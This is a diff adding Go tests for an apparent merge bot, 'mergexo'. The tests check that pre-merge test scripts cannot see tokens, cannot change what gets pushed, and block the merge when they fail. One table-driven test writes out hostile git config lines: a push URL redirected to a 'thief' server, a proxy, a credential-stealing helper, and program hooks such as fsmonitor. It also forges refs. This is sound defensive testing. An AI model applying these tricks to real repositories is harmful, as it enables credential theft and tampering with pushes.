@@ -1,0 +1,147 @@
+package engine_test
+
+import (
+	"fmt"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"strings"
+	"sync/atomic"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	"github.com/mergexo/mergexo/internal/model"
+)
+
+// script is an executable file that the tests of a merge run.
+func script(t *testing.T, text string) string {
+	t.Helper()
+	path := filepath.Join(t.TempDir(), "script")
+	require.NoError(t, os.WriteFile(path, []byte("#!/bin/sh\n"+text), 0o755))
+	return path
+}
+
+func TestMergeTestsRunOnTheVeryTipWithoutToken(t *testing.T) {
+	t.Parallel()
+	log := filepath.Join(t.TempDir(), "log")
+	run := script(t, fmt.Sprintf("git rev-parse HEAD >%s; env >>%s; git status --short >>%s; echo spoilt >greeting.txt; echo new >new.txt; git commit -qam spoilt\n", log, log, log))
+	w := newMerge(t, fmt.Sprintf("tests = [%q]", run))
+	w.write("octo", "main", "other.txt", "meanwhile\n")
+	rep := w.command("carol", "/mergexo merge")
+	require.Equal(t, model.ResultDone, rep.Result, rep.Reason)
+	text, err := os.ReadFile(log)
+	require.NoError(t, err)
+	tip, env, _ := strings.Cut(string(text), "\n")
+	assert.Equal(t, w.at("main"), tip)
+	assert.NotContains(t, env, "sandbox-actions")
+	assert.NotContains(t, env, "TOKEN=")
+	assert.NotContains(t, env, " M ", "a clean tree")
+	assert.Equal(t, "hello\nworld\n", w.fileOf("main", "greeting.txt"))
+}
+
+func TestMergeWhoseTestsFail(t *testing.T) {
+	t.Parallel()
+	for name, c := range map[string]struct{ tests, says string }{
+		"fail":           {`["sh", "-c", "echo the end of it; exit 3"]`, "the end of it"},
+		"are missing":    {`["./no-such-script"]`, "no-such-script"},
+		"are no program": {`["./greeting.txt"]`, "greeting.txt"},
+		"never end":      {"[\"sh\", \"-c\", \"echo waiting; sleep 1000\"]\ntest_timeout = \"1s\"", "1s"},
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			w := newMerge(t, "tests = "+c.tests)
+			w.write("octo", "main", "other.txt", "meanwhile\n")
+			before, head := w.at("main"), w.tip()
+			rep := w.command("carol", "/mergexo merge")
+			assert.Equal(t, model.ResultBlocked, rep.Result, rep.Reason)
+			assert.Equal(t, "PRE_MERGE_FAILED", rep.BlockedReason)
+			assert.Equal(t, []string{"merge_failed PRE_MERGE_FAILED"}, w.merges())
+			assert.Contains(t, w.request(), c.says)
+			assert.Equal(t, before, w.at("main"))
+			assert.Equal(t, head, w.tip(), "nothing is touched")
+			assert.Empty(t, w.stages(), "the lock is given back")
+			assert.Equal(t, model.ResultNothing, w.handle(w.delivery("pull_request_review")).Result)
+			assert.Equal(t, []string{"merge_failed PRE_MERGE_FAILED"}, w.merges(), "it is over")
+		})
+	}
+}
+
+func TestMergeWithoutTests(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t)
+	w.approve("alice")
+	before := w.at("main")
+	w.command("carol", "/mergexo merge")
+	assert.Equal(t, []string{"merge_failed NO_TESTS"}, w.merges())
+	assert.Equal(t, before, w.at("main"))
+	w.write("octo", "main", "Makefile", "test:\n\ttrue\n")
+	w.approve("alice")
+	rep := w.command("carol", "/mergexo merge")
+	assert.Equal(t, model.ResultDone, rep.Result, rep.Reason)
+	assert.Contains(t, w.marked("merge", "")[1]["body"], "make test")
+}
+
+// What GitHub merges by itself was tested, or its comment says that it was not: the base may move while the tests run.
+func TestMergeByGitHubOntoABaseThatMovesWhileTested(t *testing.T) {
+	t.Parallel()
+	log := filepath.Join(t.TempDir(), "log")
+	run := filepath.Join(t.TempDir(), "tests")
+	w := newMerge(t, fmt.Sprintf("tests = [%q]", run), `strategy = "api"`)
+	text := fmt.Sprintf("#!/bin/sh\ngit rev-parse 'HEAD^{tree}' >>%s\nif [ $(wc -l <%s) = 1 ]; then exec curl -fsS -X PUT -H 'Authorization: Bearer sandbox-octo' -d '{\"branch\":\"main\",\"message\":\"late\",\"content\":\"bGF0ZQo=\"}' '%s%s'; fi\n", log, log, w.people, w.path("/contents/late.txt"))
+	require.NoError(t, os.WriteFile(run, []byte(text), 0o755))
+	rep := w.command("carol", "/mergexo merge")
+	require.Equal(t, model.ResultDone, rep.Result, rep.Reason)
+	raw, err := os.ReadFile(log)
+	require.NoError(t, err)
+	assert.Equal(t, "merged", w.badge())
+	assert.Len(t, strings.Fields(string(raw)), 2, "it was tested again")
+	assert.Contains(t, string(raw), w.bare("rev-parse", "main^{tree}"), "what landed was tested")
+}
+
+// Tests run as the same user may find the git directory of a merge. Whatever they write there, it changes neither what is
+// pushed nor where to, and nobody else hears the token.
+func TestMergeWhoseTestsWriteIntoItsGitDirectory(t *testing.T) {
+	t.Parallel()
+	for name, lines := range map[string]string{
+		"another address":       "git config -f $d/config remote.origin.pushurl THIEF; git config -f $d/config remote.origin.url THIEF",
+		"a rewritten address":   "git config -f $d/config url.THIEF.insteadOf ORIGIN",
+		"a proxy":               "git config -f $d/config http.proxy THIEF",
+		"a credential helper":   "git config -f $d/config credential.helper '!f() { cat >LOG; }; f'",
+		"programs":              "git config -f $d/config remote.origin.receivepack 'touch LOG'; git config -f $d/config core.fsmonitor 'touch LOG'; git config -f $d/config core.alternateRefsCommand 'touch LOG;:'",
+		"a replaced commit":     "mkdir -p $d/refs/replace; git rev-parse HEAD~1 >$d/refs/replace/$(git rev-parse HEAD)",
+		"an end of the history": "git rev-parse HEAD >$d/shallow",
+		"other refs":            "for r in $(cd $d/refs && find . -type f); do git rev-parse HEAD~1 >$d/refs/$r; done",
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			var heard atomic.Int32
+			thief := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
+				heard.Add(1)
+				w.Header().Set("WWW-Authenticate", "Basic realm=x")
+				w.WriteHeader(http.StatusUnauthorized)
+			}))
+			defer thief.Close()
+			log, found := filepath.Join(t.TempDir(), "log"), filepath.Join(t.TempDir(), "found")
+			run := filepath.Join(t.TempDir(), "tests")
+			w := newMerge(t, fmt.Sprintf("tests = [%q]", run))
+			text := "#!/bin/sh\nfor d in $(cat .git/objects/info/alternates)/.. $(ls -d ../mergexo-git-*); do\necho $d >>FOUND\n" + lines + "\ndone\nexit 0\n"
+			text = strings.NewReplacer("ORIGIN", w.origin, "THIEF", thief.URL, "LOG", log, "FOUND", found).Replace(text)
+			require.NoError(t, os.WriteFile(run, []byte(text), 0o755))
+			w.write("octo", "main", "other.txt", "meanwhile\n")
+			base, tree := w.at("main"), w.bare("merge-tree", "--write-tree", "main", w.head)
+			rep := w.command("carol", "/mergexo merge")
+			require.Equal(t, model.ResultDone, rep.Result, rep.Reason)
+			dirs, err := os.ReadFile(found)
+			require.NoError(t, err)
+			require.Contains(t, string(dirs), "mergexo-git-", "they did find it")
+			assert.Zero(t, heard.Load())
+			assert.NoFileExists(t, log)
+			assert.Equal(t, "merged", w.badge())
+			assert.Equal(t, base, w.bare("rev-parse", "main^"))
+			assert.Equal(t, tree, w.bare("rev-parse", "main^{tree}"))
+		})
+	}
+}
